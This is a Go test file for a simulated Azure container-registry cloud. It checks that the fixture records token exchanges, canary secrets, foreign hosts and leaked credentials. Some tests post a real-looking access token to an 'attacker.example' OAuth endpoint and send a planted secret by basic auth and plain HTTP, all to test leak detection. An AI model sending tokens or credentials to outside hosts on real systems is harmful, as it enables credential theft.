package azuretest

import (
	"crypto/tls"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
)

func TestCloud_Requests(t *testing.T) {
	f := newFixture(t)
	refresh := f.exchange(f.app.AccessToken(acrResource, 0)).field("refresh_token")
	f.acrToken(refresh, "repository:app:pull")
	f.get("https://" + testHost + "/v2/")
	f.get("https://" + testHost + "/v2/app/tags/list")
	for kind, want := range map[string]int{
		KindExchange: 1, KindACRToken: 1, KindChallenge: 1, KindData: 1, KindEntraToken: 0, KindForeign: 0,
	} {
		if got := f.Seen(kind); got != want {
			t.Errorf("Seen(%s) = %d, want %d", kind, got, want)
		}
	}
	if got := f.Count("POST", testHost, "/oauth2/*"); got != 2 {
		t.Errorf("Count = %d", got)
	}
	first := f.Requests()[0]
	if first.Status != 200 || first.Method != "POST" || first.Host != testHost || first.Path != "/oauth2/exchange" ||
		first.Form.Get("service") != testHost || first.Scheme != "https" {
		t.Errorf("recorded %+v", first)
	}
	f.Reset()
	if n := len(f.Requests()); n != 0 {
		t.Errorf("%d requests after Reset", n)
	}
}

func TestCloud_Canaries(t *testing.T) {
	f := newFixture(t)
	f.registry.SetAdmin("contoso", "admin-password")
	f.registry.AddScopedToken("ci", "scoped-password", nil)
	entra := f.app.AccessToken(acrResource, 0)
	refresh := f.exchange(entra).field("refresh_token")
	for _, secret := range []string{
		"planted-secret", "admin-password", "scoped-password",
		entra, refresh, f.acrToken(refresh), strings.Split(refresh, ".")[2],
	} {
		if !slices.Contains(f.Canaries(), secret) || f.FindCanary("before "+secret+" after") == "" {
			t.Errorf("%q is missing", secret)
		}
	}
	if got := f.FindCanary("no secret"); got != "" {
		t.Errorf("found %q", got)
	}
}

func TestCloud_ForeignHosts(t *testing.T) {
	f := newFixture(t)
	if f.want(404, "GET", "https://evil.example/x", ""); len(f.Leaks()) != 0 {
		t.Errorf("leaks %v", f.Leaks())
	}
	f.Fault("attacker.example", "", Fault{Body: `{"refresh_token":"x"}`})
	a := f.post("https://attacker.example/oauth2/exchange", form("access_token", f.app.AccessToken(acrResource, 0)))
	if a.field("refresh_token") != "x" {
		t.Errorf("the attacker's response is %s", a.body)
	}
	f.get("https://basic.example/", basicAuth("user", "planted-secret")...)
	if _, err := f.client.Get("http://" + testHost + "/v2/?x=planted-secret"); err == nil {
		t.Error("plain HTTP has a response")
	}
	f.get("https://" + testHost + ":8443/v2/")
	// A client in another process may stop after the handshake.
	conn, err := tls.Dial("tcp", f.Addr(), &tls.Config{ServerName: "Handshake.example", InsecureSkipVerify: true})
	if err != nil {
		t.Fatal(err)
	}
	conn.Close()
	want := []string{
		"evil.example", "attacker.example", "basic.example", testHost + ":80", testHost + ":8443", "handshake.example",
	}
	if got := f.ForeignHosts(); !slices.Equal(got, want) {
		t.Errorf("foreign hosts %q, want %q", got, want)
	}
	var leaked []string
	for _, r := range f.Leaks() {
		leaked = append(leaked, r.Scheme+"://"+r.Host)
	}
	want = []string{"https://attacker.example", "https://basic.example", "http://" + testHost}
	if !slices.Equal(leaked, want) {
		t.Errorf("leaks to %q, want %q", leaked, want)
	}
}

func TestTransportTo(t *testing.T) {
	f := newFixture(t)
	t.Setenv("HTTPS_PROXY", "http://127.0.0.1:1")
	path := filepath.Join(t.TempDir(), "ca.pem")
	if err := f.WriteCA(path); err != nil {
		t.Fatal(err)
	}
	ca, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := (&http.Client{Transport: TransportTo(f.Addr(), ca)}).Get("https://" + testHost + "/v2/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	other := &http.Client{Transport: TransportTo(f.Addr(), Start(t).CAPEM())}
	if _, err := other.Get("https://" + testHost + "/v2/"); err == nil {
		t.Error("another cloud's root certificate is trusted")
	}
}

func TestCloud_StartProxy(t *testing.T) {
	f := newFixture(t)
	proxy := f.StartProxy()
	proxyURL, err := url.Parse(proxy.URL())
	if err != nil {
		t.Fatal(err)
	}
	transport := TransportTo("", f.CAPEM())
	transport.DialContext, transport.Proxy = nil, http.ProxyURL(proxyURL)
	f.client.Transport = transport
	f.want(401, "GET", "https://"+testHost+"/v2/", "")
	if f.Seen(KindChallenge) != 1 || len(f.ForeignHosts()) != 0 {
		t.Errorf("seen %d, foreign %v", f.Seen(KindChallenge), f.ForeignHosts())
	}
	for _, host := range []string{"evil.example", testHost + ":8443", "127.0.0.1:1"} {
		_, err := f.client.Get("https://" + host + "/")
		if err == nil || !strings.Contains(err.Error(), "Bad Gateway") {
			t.Errorf("%s: %v", host, err)
		}
	}
	f.want(502, "GET", "http://"+testHost+"/v2/", "")
	want := []string{"evil.example", testHost + ":8443", "127.0.0.1:1", "http://" + testHost}
	if got := f.ForeignHosts(); !slices.Equal(got, want) {
		t.Errorf("foreign hosts %q, want %q", got, want)
	}
	proxy.Close()
	if _, err := f.client.Get("https://" + testHost + "/v2/"); err == nil {
		t.Error("a closed proxy responds")
	}
}

func TestCloud_parallel_requests(t *testing.T) {
	f := newFixture(t)
	var wg sync.WaitGroup
	for range 100 {
		wg.Go(func() {
			client := &http.Client{Transport: f.Transport()}
			defer client.CloseIdleConnections()
			resp, err := client.PostForm(exchangeURL, form("grant_type", "access_token", "service", testHost,
				"access_token", f.app.AccessToken(acrResource, 0)))
			if err != nil {
				t.Error(err)
				return
			}
			resp.Body.Close()
			if resp.StatusCode != 200 {
				t.Error(resp.Status)
			}
		})
	}
	wg.Wait()
	if got := f.Seen(KindExchange); got != 100 {
		t.Errorf("%d exchanges", got)
	}
}
